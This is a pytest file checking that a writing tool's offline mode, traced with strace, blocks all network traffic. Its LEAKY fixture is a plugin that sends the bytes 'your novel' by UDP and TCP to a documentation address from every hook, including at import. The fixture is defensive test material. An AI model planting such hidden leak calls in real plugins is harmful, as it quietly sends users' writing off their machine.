"""Offline, nothing leaves this machine: every system call that could is recorded, in every process.

The recorder is `strace`: it sees the host, its workers, the children that examine plugins, and
native code. The plugin here tries the network wherever its code is run.
"""

from __future__ import annotations

import ipaddress
import os
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest

from inkstand_sdk.testing.environments import PluginEnvironment

# 192.0.2.0/24 is kept free for documents (RFC 5737): nobody answers there.
ELSEWHERE = "192.0.2.7"
LEAKY = '''
"""Tries to reach another machine wherever it is run."""

import os
import socket

import msgspec

from inkstand_sdk import *


def leak():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagrams:
        try:
            datagrams.sendto(b"your novel", ("ADDRESS", 9))
        except OSError:
            pass
    with socket.socket() as stream:
        stream.settimeout(0.05)
        try:
            stream.connect(("ADDRESS", 9))
        except OSError:
            pass


leak()


class Leaky(Backend):
    name = "leaky"
    capabilities = BackendCapabilities(formats=("leak",))

    @classmethod
    def probe(cls):
        leak()
        return Probe()

    def load(self, model, settings):
        leak()

    def generate(self, request, cancelled):
        leak()
        yield Chunk("written")

    def count_tokens(self, text):
        leak()
        return super().count_tokens(text)


class Honest(Backend):
    """Says that it sends text away."""

    name = "honest"
    capabilities = BackendCapabilities(formats=("remote",), remote=True)

    def load(self, model, settings):
        leak()

    def generate(self, request, cancelled):
        leak()
        yield Chunk("written")


class Bold(Honest):
    """Does not catch what the network says."""

    name = "bold"
    capabilities = BackendCapabilities(formats=("bold",))

    def generate(self, request, cancelled):
        socket.create_connection(("ADDRESS", 9), timeout=0.05)
        yield Chunk("written")


class Source(ModelSource):
    name = "leaks"

    def models(self):
        leak()
        return [Model(id="leak", format="leak", size=9), Model(id="bold", format="bold", size=1)]


class Left(msgspec.Struct):
    text: str


class Leak(Tool):
    name = "leak"
    Output = Left
    capabilities = ToolCapabilities(needs_manuscript=False)

    def run(self, input, ctx):
        leak()
        told = os.environ.get("HF_HUB_OFFLINE")
        return Left(f"{ctx.generate('x').text}, HF_HUB_OFFLINE {told}")


class English(Reader):
    name = "english"

    def read(self, manuscript, settings, progress):
        leak()
        return Reading(language="en", reader=self.name, version="1")


@hookimpl
def inkstand_backends():
    return [Leaky, Honest, Bold]


@hookimpl
def inkstand_sources():
    return [Source]


@hookimpl
def inkstand_tools():
    return [Leak]


@hookimpl
def inkstand_readers():
    return [English]


@hookimpl
def inkstand_before_generate(request):
    leak()


@hookimpl
def inkstand_event(event):
    leak()
'''.replace("ADDRESS", ELSEWHERE)

recorded = pytest.mark.skipif(
    shutil.which("strace") is None, reason="strace is not here: nothing could be recorded"
)


class Recorder:
    """Runs `python -m inkstand` and records which other machines it calls."""

    def __init__(self, python: str, folder: Path) -> None:
        self.python = python
        self.home = folder / "home"
        self.log = folder / "calls.txt"
        self.story = folder / "story.md"
        self.story.write_text("# One\n\n“Come in,” said Ada. She waited.\n", encoding="utf-8")
        self.requests = folder / "in.jsonl"
        self.requests.write_text('{"prompt": "One"}\n{"prompt": "Two"}\n', encoding="utf-8")
        self.answers = folder / "out.jsonl"

    def __call__(self, *arguments: str | Path) -> tuple[subprocess.CompletedProcess[str], set[str]]:
        calls = "trace=connect,sendto,sendmsg,sendmmsg"
        command = ["strace", "-f", "-qq", "-e", calls, "-o", str(self.log)]
        done = subprocess.run(
            [*command, self.python, "-m", "inkstand", *map(str, arguments)],
            capture_output=True,
            text=True,
            check=False,
            stdin=subprocess.DEVNULL,
            timeout=120,
            env={**_without_offline(), "INKSTAND_HOME": str(self.home)},
        )
        return done, set(_addresses(self.log.read_text(errors="replace")))


def _without_offline() -> dict[str, str]:
    return {name: value for name, value in os.environ.items() if not name.endswith("OFFLINE")}


def _addresses(calls: str) -> Iterator[str]:
    """The addresses in recorded calls that are not this machine's own."""
    for text in re.findall(r'inet_addr\("([^"]+)"\)|inet_pton\(AF_INET6, "([^"]+)"', calls):
        address = ipaddress.ip_address(text[0] or text[1])
        if not (address.is_loopback or address.is_unspecified):
            yield str(address)


@pytest.fixture(scope="module")
def environment(tmp_path_factory: pytest.TempPathFactory) -> PluginEnvironment:
    """An installation with the leaky plugin alone."""
    environment = PluginEnvironment(tmp_path_factory.mktemp("leaky") / "environment", ["inkstand"])
    environment.install("inkstand-leaky", {"leaky.py": LEAKY}, {"leaky": "leaky"})
    return environment


@pytest.fixture
def leaky(environment: PluginEnvironment, tmp_path: Path) -> Recorder:
    """Inkstand with the leaky plugin."""
    return Recorder(environment.python, tmp_path)


def commands(recorder: Recorder, model: str, tool: str) -> Iterator[tuple[str | Path, ...]]:
    """All that may want the network, the first on an index that is not made yet."""
    yield "plugins", "list"
    yield "generate", "One", "-n", "4", "--model", model, "--seed", "1"
    yield "run", tool, recorder.story, "--model", model
    yield "read", recorder.story
    yield "models", "list"
    yield "backends", "list"
    yield "backends", "info", model.partition(":")[0]
    yield "backends", "test", model.partition(":")[0], "--max-tokens", "4"
    yield "batch", recorder.requests, recorder.answers, "--model", model
    yield "plugins", "refresh"
    yield ("doctor",)
    yield "tools", "list"
    yield "cache", "stats"
    yield ("usage",)
    yield ("logs",)


@recorded
def test_the_recorder_sees_what_every_part_of_a_plugin_sends(leaky: Recorder) -> None:
    for command in (
        ("plugins", "refresh"),
        ("generate", "One", "--model", "leaky:leak"),
        ("run", "leak", "--model", "leaky:leak"),
        ("read", leaky.story),
        ("generate", "One", "--model", "honest:any"),
    ):
        done, called = leaky(*command)
        assert done.returncode == 0, done.stderr
        assert called == {ELSEWHERE}, command


@recorded
@pytest.mark.parametrize("how", ["--offline", "offline = true"])
def test_a_plugin_that_tries_everywhere_sends_nothing(leaky: Recorder, how: str) -> None:
    if how != "--offline":
        (leaky.home / "config").mkdir(parents=True)
        (leaky.home / "config" / "config.toml").write_text(f"{how}\n")
    for command in commands(leaky, "leaky:leak", "leak"):
        done, called = leaky(*command, *([how] if how == "--offline" else []))
        assert called == set(), (command, called)
        assert "Traceback" not in done.stderr
        assert done.returncode == 0, (command, done.stderr, done.stdout)


@recorded
@pytest.mark.slow
def test_what_comes_with_inkstand_sends_nothing(tmp_path: Path) -> None:
    recorder = Recorder(sys.executable, tmp_path)
    for command in commands(recorder, "llamacpp:pocket", "character"):
        done, called = recorder("--offline", *command)
        assert called == set(), (command, called)
        assert done.returncode == 0, (command, done.stderr, done.stdout)
    answers = recorder.answers.read_bytes().splitlines()
    assert [msgspec.json.decode(line)["finish"] for line in answers] != []


@recorded
def test_a_backend_that_sends_text_away_is_refused_at_once_and_not_started(
    leaky: Recorder,
) -> None:
    for command in (
        ("generate", "One", "--model", "honest:any"),
        ("backends", "test", "honest", "--model", "any"),
        ("run", "leak", "--model", "honest:any"),
    ):
        done, called = leaky("--offline", *command)
        assert called == set()
        assert done.returncode == 1
        assert done.stdout == ""
        assert "honest sends text over the network, and Inkstand is offline" in done.stderr
        assert "inkstand models list" in done.stderr
    assert not list((leaky.home / "log").glob("worker-honest*"))


@recorded
def test_a_plugin_that_did_not_say_so_fails_with_the_reason(leaky: Recorder) -> None:
    done, called = leaky("--offline", "generate", "One", "--model", "bold:bold")
    assert called == set()
    assert done.returncode == 1
    assert f"The connection to {ELSEWHERE} was refused: Inkstand is offline." in done.stderr
    assert "inkstand config set offline false" in done.stderr


GUARDED = """
import os, socket, sys
os.environ["INKSTAND_OFFLINE"] = "1"
from inkstand_sdk.offline import guard_if_told
guard_if_told()
with socket.create_server(("127.0.0.1", 0)) as server:
    socket.create_connection(server.getsockname(), timeout=9).close()
    socket.create_connection(("localhost", server.getsockname()[1]), timeout=9).close()
attempts = [
    lambda: socket.create_connection(("example.com", 80)),
    lambda: socket.create_connection((b"example.com", 80)),
    lambda: socket.create_connection(("192.0.2.7", 80)),
    lambda: socket.create_connection(("localhost.example.com", 80)),
    lambda: socket.create_connection(("127.0.0.1.example.com", 80)),
    lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::1", 80)),
    lambda: socket.socket(socket.AF_INET6).connect(("::ffff:192.0.2.7", 80)),
    lambda: socket.socket().connect_ex(("192.0.2.7", 80)),
    lambda: socket.socket(type=socket.SOCK_DGRAM).sendto(b"x", ("192.0.2.7", 53)),
    lambda: socket.socket(type=socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("192.0.2.7", 53)),
    lambda: socket.getaddrinfo("example.com", 80),
    lambda: socket.gethostbyname("example.com"),
    lambda: socket.gethostbyaddr("192.0.2.7"),
]
for number, attempt in enumerate(attempts):
    try:
        attempt()
    except OSError as error:
        assert "Inkstand is offline" in str(error), (number, error)
    else:
        sys.exit(f"attempt {number} was let through")
"""


def test_the_guard_lets_this_machine_through_and_nothing_else() -> None:
    done = subprocess.run([sys.executable, "-c", GUARDED], capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()


@recorded
def test_libraries_that_fetch_by_themselves_are_told_too(leaky: Recorder) -> None:
    run = ("run", "leak", "--model", "leaky:leak", "--json")
    for command, told in ((run, "None"), (("--offline", *run), "1")):
        done, _ = leaky(*command)
        assert done.returncode == 0, done.stderr
        assert msgspec.json.decode(done.stdout)["text"] == f"written, HF_HUB_OFFLINE {told}"
